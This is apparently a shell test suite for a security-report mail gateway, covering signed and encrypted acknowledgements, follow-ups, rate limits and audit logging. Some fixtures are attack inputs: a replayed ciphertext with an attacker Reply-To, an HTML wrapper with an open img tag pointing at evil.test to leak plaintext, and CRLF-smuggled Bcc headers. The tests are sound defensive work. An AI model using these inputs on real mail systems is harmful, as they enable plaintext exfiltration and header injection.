#!/bin/sh
# test-ack - acknowledgements and follow-ups through the real psirt-filter,
# with a fake sendmail that records argv and stdin (tests/lib/
# fake-sendmail.sh; it fails while $T/sendmail-fail exists). Reports are
# made at test time with the real gpg from the keys in keys/.
. "$top_srcdir/tests/lib/env.sh"
. "$top_srcdir/tests/lib/mkmail.sh"
. "$top_srcdir/tests/lib/gpghome.sh"

psirt_env_init "ack_global_per_hour = 1000" "ack_per_sender = 5"
pgp_test_homes
# gateway_key set (the other OpenPGP tests leave it empty: the only key)
echo "gateway_key = $TEST_GATEWAY_FPR" >>"$T/psirt.conf"
ACKMAIL="python3 $top_srcdir/tests/lib/ackmail.py"

# ---- helpers -----------------------------------------------------------

# sent - how many mails the fake sendmail recorded
sent() {
	ls "$T/sent" | grep -c '\.eml$'
}

# last_ack - the newest recorded mail
last_ack() {
	printf '%s/%s.eml' "$T/sent" "$(sent)"
}

# last_argv - the newest recorded argv, on one line
last_argv() {
	tr '\n' ' ' <"$T/sent/$(sent).argv" | sed 's/ $//'
}

# deliver SENDER FILE - the filter on FILE, then the newest case id in $ID
deliver() {
	run_filter "$1" <"$2"
	_rc=$?
	ID=$(run_psirt list --json | json_get 'j[-1]["id"]')
	return $_rc
}

# case_json ID EXPR - a field of a case
case_json() {
	run_psirt show "$1" --json | json_get "$2"
}

# hdr FROM SUBJECT [EXTRA-LINE...] - outer header lines, no blank line
hdr() {
	_f=$1 _s=$2
	shift 2
	printf 'From: %s\nTo: security@example.test\nSubject: %s\n' "$_f" "$_s"
	printf 'Date: Sun, 22 Nov 2026 10:00:00 +0000\nMessage-ID: <%s>\n' \
	    "$(mail_id)"
	for _l in "$@"; do printf '%s\n' "$_l"; done
	printf 'MIME-Version: 1.0\n'
}

# plain FROM SUBJECT [EXTRA-LINE...] - a plain report on stdout
plain() {
	hdr "$@"
	printf 'Content-Type: text/plain\n\nThe report text.\n'
}

# encrypted FROM SUBJECT INNER-SUBJECT TEXT [SIGNER] - PGP/MIME to the
# test gateway (signed by SIGNER when given) with protected headers
encrypted() {
	hdr "$1" "$2"
	printf 'Content-Type: multipart/encrypted; '
	printf 'protocol="application/pgp-encrypted"; boundary="b1"\n\n'
	printf -- '--b1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
	printf -- '--b1\nContent-Type: application/octet-stream\n\n'
	{
		printf 'Content-Type: text/plain; charset=utf-8; '
		printf 'protected-headers="v1"\nSubject: %s\nFrom: %s\n\n%s\n' \
		    "$3" "$1" "$4"
	} | pgp_encrypt "$R" "$TEST_GATEWAY_FPR" "${5:-}"
	printf -- '\n--b1--\n'
}

# verify_signed FILE - the ack is multipart/signed by the test gateway key
verify_signed() {
	$ACKMAIL signed "$1" "$T/signed.txt" "$T/sig.asc" || return 1
	gpg_in "$R" --status-fd 1 --verify "$T/sig.asc" "$T/signed.txt" \
	    2>/dev/null | grep -q "^\[GNUPG:\] VALIDSIG .* $TEST_GATEWAY_FPR\$"
}

# decrypt_ack FILE - the ack is multipart/encrypted to a reporter key and
# signed by the gateway key; the plaintext entity goes to $T/inner
decrypt_ack() {
	$ACKMAIL encrypted "$1" "$T/ct.asc" || return 1
	gpg_in "$R" --status-fd 3 --decrypt "$T/ct.asc" 3>"$T/status" \
	    >"$T/inner" 2>/dev/null || return 1
	grep -q "^\[GNUPG:\] VALIDSIG .* $TEST_GATEWAY_FPR\$" "$T/status"
}

# ack_text FILE - the decoded text of an ack (signed or encrypted)
ack_text() {
	if $ACKMAIL signed "$1" "$T/signed.txt" "$T/sig.asc"; then
		$ACKMAIL body "$T/signed.txt"
	else
		decrypt_ack "$1" && $ACKMAIL body "$T/inner"
	fi
}

M=$T/m.eml

# ---- a plain report: a signed receipt to the envelope sender -----------

plain 'Bob <bob@example.net>' 'crash in parser' \
    'Reply-To: someone-else@example.org' >"$M"
n0=$(sent)
deliver bob@example.net "$M"
is "$?" 0 "plain report: exit 0"
BOB_CASE=$ID
is "$(sent)" "$((n0 + 1))" "plain report: one acknowledgement sent"
A=$(last_ack)
is "$(last_argv)" "-i -f security@example.test -- bob@example.net" \
    "sendmail argv: -i -f GATEWAY -- ENVELOPE-SENDER (no -t)"
is "$($ACKMAIL header "$A" Subject)" "[$ID] Report received" \
    "subject carries the case tag"
is "$($ACKMAIL header "$A" To)" "bob@example.net" \
    "To is the envelope sender, not Reply-To"
is "$($ACKMAIL header "$A" Auto-Submitted)" "auto-replied" \
    "Auto-Submitted: auto-replied"
mid=$(sed -n 's/^Message-ID: <\(.*\)>$/\1/p' "$M")
is "$($ACKMAIL header "$A" In-Reply-To)" "<$mid>" "In-Reply-To the report"
is "$($ACKMAIL header "$A" References)" "<$mid>" "References the report"
check "Message-ID of the gateway's domain encodes the case" \
    sh -c "$ACKMAIL header '$A' Message-ID | grep -q '^<$ID\.[0-9a-f]*@example\.test>\$'"
check "signed by the gateway key (PGP/MIME, verifies)" verify_signed "$A"
ack_text "$A" >"$T/text"
check "the receipt states the raw SHA-256" \
    grep -q "$(sha256sum <"$M" | cut -d' ' -f1)" "$T/text"
check "the receipt states the case ID" grep -q "$ID" "$T/text"
check "the receipt says not encrypted" grep -q "encrypted: no" "$T/text"
check "acknowledged recorded (psirt show --json)" \
    sh -c "run_psirt() { $RUN_AS '$T/bin/psirt' -c '$T/psirt.conf' \"\$@\"; }; \
    [ \"\$(run_psirt show $ID --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"acknowledged\"] is not None)')\" = True ]"
grep -q "$ID: ack to=<bob@example.net>, kind=ack, signed, status=sent" \
    "$T/log"
is "$?" 0 "log line: ack sent"

# ---- an encrypted, signed report: the ack is encrypted to the reporter --

S=$(od -An -N6 -tx1 /dev/urandom | tr -d ' \n')
encrypted alice@example.test 'Encrypted report' "SECRET-SUBJECT-$S" \
    "SECRET-BODY-$S" "$ALICE_FPR" >"$M"
deliver alice@example.test "$M"
is "$?" 0 "encrypted report: exit 0"
ALICE_CASE=$ID
is "$(case_json "$ID" "j['messages'][0]['signature']")" good \
    "encrypted report: signature good"
A=$(last_ack)
check "ack encrypted to the reporter's key, signed by the gateway key" \
    decrypt_ack "$A"
check "ack decrypts with the reporter's key" \
    grep -q "$ID" "$T/inner"
check "ack carries nothing decrypted (subject, body)" \
    sh -c "! grep -q '$S' '$A' '$T/inner'"
is "$($ACKMAIL header "$A" Subject)" "[$ID] Report received" \
    "encrypted report: outer subject is the case tag only"

# the same report tampered with: the ack's text is the same but for the
# facts of the raw message (its content never depends on decryption)
norm() {
	sed -e "s/$1/CASE/g" -e 's/[0-9a-f]\{64\}/SHA/' \
	    -e 's/[0-9]\{4\}-[0-9-]*T[0-9:]*Z/TIME/' -e 's/[0-9]\+ bytes/N bytes/'
}
ack_text "$(last_ack)" | norm "$ALICE_CASE" >"$T/good.txt"
awk '/^-----BEGIN PGP MESSAGE/ { n = NR } n && NR == n + 6 { $0 = "AAAA" substr($0, 5) } { print }' "$M" >"$T/bad.eml"
deliver alice@example.test "$T/bad.eml"
is "$(case_json "$ID" "j['messages'][0]['encryption']")" failed-corrupt \
    "tampered report: failed-corrupt"
ack_text "$(last_ack)" | norm "$ID" >"$T/bad.txt"
check "the ack's text does not depend on whether decryption succeeded" \
    sh -c "grep -q 'CASE' '$T/good.txt' && cmp -s '$T/good.txt' '$T/bad.txt'"

# ---- the replay: someone else's ciphertext, Reply-To the attacker -------

S2=$(od -An -N6 -tx1 /dev/urandom | tr -d ' \n')
encrypted alice@example.test 'Encrypted report' "SECRET-SUBJECT-$S2" \
    "SECRET-BODY-$S2" "$ALICE_FPR" >"$T/orig.eml"
{
	printf 'From: alice@example.test\nTo: security@example.test\n'
	printf 'Reply-To: attacker@evil.test\nSubject: fwd\n'
	sed -n '/^Content-Type: multipart/,$p' "$T/orig.eml"
} >"$M"
deliver mallory@evil.test "$M"
A=$(last_ack)
is "$(last_argv)" "-i -f security@example.test -- mallory@evil.test" \
    "replay: the ack goes to the envelope sender only"
check "replay: the ack holds none of the plaintext" \
    sh -c "! grep -q '$S2' '$A'"
check "replay: signed only (no key pinned for the replayer)" verify_signed "$A"
ack_text "$A" >"$T/text"
check "replay: no plaintext in the ack text" sh -c "! grep -q '$S2' '$T/text'"
# the same ciphertext inside attacker HTML (inline armor in text/html)
{
	printf 'From: mallory@evil.test\nTo: security@example.test\n'
	printf 'Reply-To: attacker@evil.test\nSubject: look\nMIME-Version: 1.0\n'
	printf 'Content-Type: text/html\n\n<html><body><pre>\n'
	sed -n '/^-----BEGIN PGP MESSAGE/,/^-----END PGP MESSAGE/p' "$T/orig.eml"
	printf '</pre><img src="http://evil.test/x?q=\n'
	printf '</body></html>\n'
} >"$M"
deliver mallory@evil.test "$M"
A=$(last_ack)
is "$(last_argv)" "-i -f security@example.test -- mallory@evil.test" \
    "HTML-wrapped replay: ack to the envelope sender only"
check "HTML-wrapped replay: the ack holds none of the plaintext" \
    sh -c "! grep -q '$S2' '$A'"

# ---- header injection never reaches the ack's header --------------------

hdr 'Eve =?utf-8?q?x=0D=0ABcc:_victim@evil.test?= <eve@example.net>' \
    '=?utf-8?q?hi=0D=0ABcc:_victim@evil.test=0D=0A=0D=0Abody?=' >"$M"
printf 'Content-Type: text/plain\n\ntext\n' >>"$M"
deliver eve@example.net "$M"
A=$(last_ack)
check "CRLF in Subject/From: no Bcc in the ack" sh -c "! grep -qi '^bcc' '$A'"
check "CRLF in Subject/From: no victim anywhere in the ack" \
    sh -c "! grep -q victim '$A'"
is "$($ACKMAIL header "$A" Subject)" "[$ID] Report received" \
    "CRLF in Subject: the ack's subject is the fixed one"
n0=$(sent)
plain eve@example.net 'x' >"$M"
deliver "$(printf 'eve@example.net\r\nBcc: victim@evil.test')" "$M"
is "$(sent)" "$n0" "CRLF in the envelope sender: no ack"
check "CRLF in the envelope sender: suppression recorded" \
    sh -c "$RUN_AS '$T/bin/psirt' -c '$T/psirt.conf' log $ID | grep -q 'bad-address'"

# ---- no ack to bounces, auto-replies, lists, loops ----------------------

noack() {
	_name=$1 _sender=$2
	shift 2
	plain "someone@example.net" "$_name" "$@" >"$M"
	_n=$(sent)
	deliver "$_sender" "$M"
	is "$(sent)" "$_n" "no ack: $_name"
}
noack "null sender" ""
noack "MAILER-DAEMON" MAILER-DAEMON@example.net
noack "postmaster" Postmaster@example.net
noack "Auto-Submitted: auto-replied" a1@example.net 'Auto-Submitted: auto-replied'
noack "Auto-Submitted: auto-generated" a2@example.net 'Auto-Submitted: auto-generated'
noack "Precedence: bulk" a3@example.net 'Precedence: bulk'
noack "Precedence: junk" a4@example.net 'Precedence: junk'
noack "Precedence: list" a5@example.net 'Precedence: list'
noack "List-Id" a6@example.net 'List-Id: <x.lists.example.net>'
noack "List-Unsubscribe" a7@example.net 'List-Unsubscribe: <mailto:u@example.net>'
noack "the gateway itself" security@example.test
# one of our own acks mailed back
n0=$(sent)
deliver a8@example.net "$T/sent/1.eml"
is "$(sent)" "$n0" "no ack: our own acknowledgement (loop)"
is "$(case_json "$BOB_CASE" "'sender-mismatch' in j['messages'][-1]['flags']")" True \
    "our ack mailed back by another address: joins flagged sender-mismatch"
plain "a9@example.net" "auto no" 'Auto-Submitted: no' >"$M"
n0=$(sent)
deliver a9@example.net "$M"
is "$(sent)" "$((n0 + 1))" "Auto-Submitted: no is acknowledged"

# ---- rate limits --------------------------------------------------------

n0=$(sent)
for i in 1 2 3 4 5 6 7; do
	plain "flood@example.net" "flood $i" >"$M"
	deliver victim@example.org "$M"
done
is "$(sent)" "$((n0 + 5))" "at most ack_per_sender (5 here) acks per address"
check "the suppressed ack is recorded with the reason" \
    sh -c "$RUN_AS '$T/bin/psirt' -c '$T/psirt.conf' log $ID | grep -q 'rate-limit-sender'"
check "every flood report was stored" \
    [ "$(run_psirt list --json | json_get 'sum(1 for c in j if c["subject"].startswith("flood"))')" = 7 ]

# ---- sendmail failing: stored, exit 0, retried -------------------------

touch "$T/sendmail-fail"
plain "carol@example.net" "while mail is down" >"$M"
n0=$(sent)
deliver carol@example.net "$M"
is "$?" 0 "sendmail failing: exit 0"
CAROL=$ID
is "$(case_json "$ID" "j['acknowledged']")" None "sendmail failing: not acknowledged"
check "sendmail failing: the failure is recorded on the case" \
    sh -c "$RUN_AS '$T/bin/psirt' -c '$T/psirt.conf' log $ID | grep -q 'ack-failed'"
rm -f "$T/sendmail-fail"
env PSIRT_LOG_FILE="$T/log" $RUN_AS "$T/bin/psirt-filter" -c "$T/psirt.conf" \
    --retry-acks >"$T/retry.out" 2>&1
is "$?" 0 "psirt-filter --retry-acks: exit 0"
is "$(sent)" "$((n0 + 1))" "the ack is sent once sendmail works"
is "$($ACKMAIL header "$(last_ack)" Subject)" "[$CAROL] Report received" \
    "the retried ack is the case's"
check "acknowledged set after the retry" \
    [ "$(case_json "$CAROL" "j['acknowledged'] is not None")" = True ]
env PSIRT_LOG_FILE="$T/log" $RUN_AS "$T/bin/psirt-filter" -c "$T/psirt.conf" \
    --retry-acks >"$T/retry.out" 2>&1
is "$(sent)" "$((n0 + 1))" "a sent ack is not sent again"

# ---- a sendmail_command that cannot be run: stored, exit 0, said -------

mv "$T/bin/fake-sendmail" "$T/bin/fake-sendmail.away"
plain "erin@example.net" "while sendmail is missing" >"$M"
n0=$(sent)
deliver erin@example.net "$M"
is "$?" 0 "sendmail missing: exit 0"
ERIN=$ID
is "$(case_json "$ERIN" "j['acknowledged']")" None \
    "sendmail missing: not acknowledged"
check "sendmail missing: the log says it cannot be run" \
    grep -qF "cannot run $T/bin/fake-sendmail: No such file or directory" \
    "$T/log"
mv "$T/bin/fake-sendmail.away" "$T/bin/fake-sendmail"
env PSIRT_LOG_FILE="$T/log" $RUN_AS "$T/bin/psirt-filter" -c "$T/psirt.conf" \
    --retry-acks >"$T/retry.out" 2>&1
is "$(sent)" "$((n0 + 1))" "sendmail missing: the ack is sent once it is back"

# ---- the deadline fires while the ack is being sent --------------------
# The report is committed: exit 0 (a 75 would have Postfix deliver it
# again), the ack left pending and sent by a later run.
cp "$T/psirt.conf" "$T/psirt.conf.keep"
D=$((4 * SLOW))
printf 'worker_timeout = %ss\ndeadline = %ss\n' $((D / 2)) "$D" >>"$T/psirt.conf"
touch "$T/sendmail-hang"
plain "dan@example.net" "while sendmail hangs" >"$M"
n0=$(sent)
t0=$(date +%s)
deliver dan@example.net "$M"
is "$?" 0 "deadline during the ack: exit 0 (the report is committed)"
el=$(($(date +%s) - t0))
check "deadline during the ack: ended at the deadline ($el s)" \
    test "$el" -ge "$D" -a "$el" -le $((D + 10 * SLOW))
DAN=$ID
is "$(case_json "$DAN" "j['subject']")" "while sendmail hangs" \
    "deadline during the ack: the report is stored"
is "$(case_json "$DAN" "j['acknowledged']")" None \
    "deadline during the ack: not acknowledged"
rm -f "$T/sendmail-hang"
# The ack is left claimed ("sending"); the claim is taken again once it is
# older than the deadline (the run that made it has surely ended by then).
sleep $((D + 3))
env PSIRT_LOG_FILE="$T/log" $RUN_AS "$T/bin/psirt-filter" -c "$T/psirt.conf" \
    --retry-acks >"$T/retry.out" 2>&1
mv "$T/psirt.conf.keep" "$T/psirt.conf"
is "$(sent)" "$((n0 + 1))" "deadline during the ack: the ack is sent later"
is "$($ACKMAIL header "$(last_ack)" Subject)" "[$DAN] Report received" \
    "deadline during the ack: the later ack is the case's"

# ---- follow-ups ---------------------------------------------------------

ncases=$(case_count)
upd=$(case_json "$ALICE_CASE" "j['updated']")
sleep 1
encrypted alice@example.test 'Encrypted message' \
    "Re: [$ALICE_CASE] more details" "more details" "$ALICE_FPR" >"$M"
deliver alice@example.test "$M"
is "$(case_count)" "$ncases" "follow-up by encrypted subject only: no new case"
is "$(case_json "$ALICE_CASE" "len(j['messages'])")" 2 \
    "follow-up by encrypted subject only: joins the case"
check "follow-up: the case's updated time moves" \
    [ "$(case_json "$ALICE_CASE" "j['updated']")" != "$upd" ]
A=$(last_ack)
is "$($ACKMAIL header "$A" Subject)" "[$ALICE_CASE] Follow-up received" \
    "follow-up: the follow-up acknowledgement"
check "follow-up ack encrypted to the reporter" decrypt_ack "$A"
check "follow-up ack uses followup.txt" grep -q "added to the case" "$T/inner"

# In-Reply-To our ack's Message-ID, subject without a tag
ackid=$($ACKMAIL header "$T/sent/1.eml" Message-ID)
nmsg=$(case_json "$BOB_CASE" "len(j['messages'])")
plain 'Bob <bob@example.net>' 'one more thing' "In-Reply-To: $ackid" >"$M"
deliver bob@example.net "$M"
is "$(case_json "$BOB_CASE" "len(j['messages'])")" "$((nmsg + 1))" \
    "follow-up by In-Reply-To our ack's Message-ID"

# the case tag from someone else: stored there, flagged, acked as a report
plain 'Mallory <mallory@evil.test>' "Re: [$ALICE_CASE] me too" >"$M"
ncases=$(case_count)
deliver mallory@evil.test "$M"
is "$(case_count)" "$ncases" "foreign tag: no new case"
is "$(case_json "$ALICE_CASE" "'sender-mismatch' in j['messages'][-1]['flags']")" True \
    "foreign tag: stored in that case, flagged sender-mismatch"
A=$(last_ack)
is "$($ACKMAIL header "$A" Subject)" "[$ALICE_CASE] Report received" \
    "foreign tag: acknowledged as a report (not a follow-up)"
check "foreign tag: signed only (never encrypted to the reporter)" \
    verify_signed "$A"
ack_text "$A" >"$T/text"
check "foreign tag: nothing of the case in the ack" \
    sh -c "! grep -q -e 'SECRET' -e 'Encrypted report' '$T/text'"

# a tag in the protected subject from someone else: a new case
encrypted mallory@evil.test 'hello' "Re: [$ALICE_CASE] x" "x" >"$M"
ncases=$(case_count)
deliver mallory@evil.test "$M"
is "$(case_count)" "$((ncases + 1))" \
    "foreign tag in the encrypted subject only: a new case"

# ---- encrypted to a key we do not hold: the ack names ours -------------

{
	hdr stranger@example.net 'for you'
	printf 'Content-Type: multipart/encrypted; '
	printf 'protocol="application/pgp-encrypted"; boundary="b1"\n\n'
	printf -- '--b1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
	printf -- '--b1\nContent-Type: application/octet-stream\n\n'
	printf 'Content-Type: text/plain\n\nx\n' |
	    pgp_encrypt "$R" "$STRANGER_FPR"
	printf -- '\n--b1--\n'
} >"$M"
deliver stranger@example.net "$M"
ack_text "$(last_ack)" >"$T/text"
check "failed-no-key: the ack names the gateway's fingerprint" \
    grep -q "$TEST_GATEWAY_FPR" "$T/text"
check "failed-no-key: and says which key to use" \
    grep -q "does not hold" "$T/text"

# ---- reporter keys: pinned on first use, key-changed, psirt key accept --

# Alice offers another key (an Autocrypt header): flagged, not used yet.
kd=$(pgp_key_block "$R" "$RSA_FPR" | sed -n '/^$/,/^-----END/p' |
    grep -v -e '^-----' -e '^=' -e '^$' | tr -d '\n')
plain alice@example.test "Re: [$ALICE_CASE] new key" \
    "Autocrypt: addr=alice@example.test; keydata=$kd" >"$M"
deliver alice@example.test "$M"
is "$(case_json "$ALICE_CASE" "'key-changed' in j['messages'][-1]['flags']")" True \
    "a different key for the address: flagged key-changed"
# enc_to FILE FPR - the encrypted ack FILE is encrypted to a subkey of FPR
enc_to() {
	$ACKMAIL encrypted "$1" "$T/ct2.asc" || return 1
	gpg_in "$R" --with-colons --list-keys "$2" |
	    awk -F: '$1 == "sub" && $12 ~ /e/ { print $5 }' >"$T/subs"
	gpg --homedir "$R" --batch --list-packets "$T/ct2.asc" 2>/dev/null |
	    grep -qi -F -f "$T/subs"
}
check "key-changed: the ack is still encrypted to the pinned key" \
    enc_to "$(last_ack)" "$ALICE_FPR"
enc_to "$(last_ack)" "$RSA_FPR"
is "$?" 1 "key-changed: not encrypted to the key offered"
run_psirt key accept "$ALICE_CASE" >/dev/null
is "$?" 0 "psirt key accept CASE: exit 0"
plain alice@example.test "Re: [$ALICE_CASE] thanks" >"$M"
deliver alice@example.test "$M"
check "after psirt key accept: acks are encrypted to the new key" \
    enc_to "$(last_ack)" "$RSA_FPR"
run_psirt key accept "$ALICE_CASE" >/dev/null 2>&1
is "$?" 4 "psirt key accept with no key offered: refused"

# ---- templates: --check-config refuses an unknown placeholder ----------

$RUN_AS "$T/bin/psirt-filter" -c "$T/psirt.conf" --check-config >"$T/cc" 2>&1
is "$?" 0 "--check-config accepts the shipped templates"
printf 'Case {case_id}: {body}\n' >"$T/templates/followup.txt"
msg=$($RUN_AS "$T/bin/psirt-filter" -c "$T/psirt.conf" --check-config 2>&1)
check "--check-config refuses an unknown placeholder" [ $? -ne 0 ]
case $msg in
*followup.txt*"{body}"*) tap_ok 0 "--check-config names the file and placeholder" ;;
*) tap_ok 1 "--check-config names the file and placeholder"; echo "# $msg" ;;
esac
printf 'Literal {{braces} and {case_id}\n' >"$T/templates/followup.txt"
$RUN_AS "$T/bin/psirt-filter" -c "$T/psirt.conf" --check-config >/dev/null 2>&1
is "$?" 0 "--check-config accepts {{ as a literal brace"

# ---- gateway_key names a key gpg does not sign with: no ack -----------

cp "$T/psirt.conf" "$T/psirt.conf.good"
sed -i "s/^gateway_key = .*/gateway_key = $STRANGER_FPR/" "$T/psirt.conf"
plain 'Dave <dave@example.net>' 'wrong key configured' >"$M"
n0=$(sent)
deliver dave@example.net "$M"
is "$?" 0 "gateway_key not ours: the report is stored, exit 0"
is "$(sent)" "$n0" "gateway_key not ours: nothing sent"
check "gateway_key not ours: the log says why" \
    grep -q "is not gateway_key $STRANGER_FPR" "$T/log"
cp "$T/psirt.conf.good" "$T/psirt.conf"

# ---- the audit log covers acknowledgements ------------------------------

run_psirt verify-log >/dev/null 2>&1
is "$?" 0 "verify-log: acks, follow-ups and keys are in the chained log"
python3 -c 'import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("UPDATE cases SET first_ack = NULL WHERE id = ?", (sys.argv[2],))
db.commit()' "$T/db/queue.db" "$CAROL"
run_psirt verify-log >"$T/vl" 2>&1
check "verify-log: a first_ack changed outside the log is found" \
    [ $? -ne 0 ]
check "verify-log names first_ack" grep -q first_ack "$T/vl"

tap_done
